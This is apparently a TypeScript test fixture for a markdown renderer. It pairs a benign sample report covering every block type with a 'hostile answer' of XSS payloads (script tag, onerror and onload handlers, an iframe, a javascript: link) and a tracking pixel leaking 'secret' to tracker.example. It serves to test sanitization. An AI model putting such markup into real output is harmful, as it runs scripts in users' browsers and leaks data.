/** Answers the stories render: every block type, and what a hostile model might write. */
export const everyBlockAnswer = `# Quarterly report

## Summary

Revenue grew **12 %** on the _previous_ quarter; ~~flat~~ \`growth()\` returned true.
The line ends here  
and a hard break starts this one.

### Steps

1. Open the report.
2. Check the figures.
   - Totals first.
   - Then each region.

- [x] Draft written
- [ ] Reviewed

| Region | Revenue | Change |
| :-- | --: | :-: |
| North | 1,200 | +8 % |
| South | 950 | +15 % |

> Figures are provisional until the audit ends.

---

\`\`\`ts
// The total of every region.
export function total(values: number[]): number {
  return values.reduce((sum, value) => sum + value, 0);
}
\`\`\`

Read [the methodology](https://example.com/methodology) or [write to finance](mailto:finance@example.com).`;

/** A flag the hostile answer tries to set; it must stay unset. */
export const SCRIPT_RAN_FLAG = 'parleyMarkdownScriptRan';

export const unsafeAnswer = `Everything a hostile answer might try:

<script>window.${SCRIPT_RAN_FLAG} = true</script>

Inline: <img src="https://tracker.example/inline.png" onerror="window.${SCRIPT_RAN_FLAG} = true"> and <iframe src="https://tracker.example/frame"></iframe>

<svg onload="window.${SCRIPT_RAN_FLAG} = true"></svg>

[Claim your prize](javascript:window.${SCRIPT_RAN_FLAG}=true)

![Tracking pixel](https://tracker.example/pixel.png?leak=secret)`;
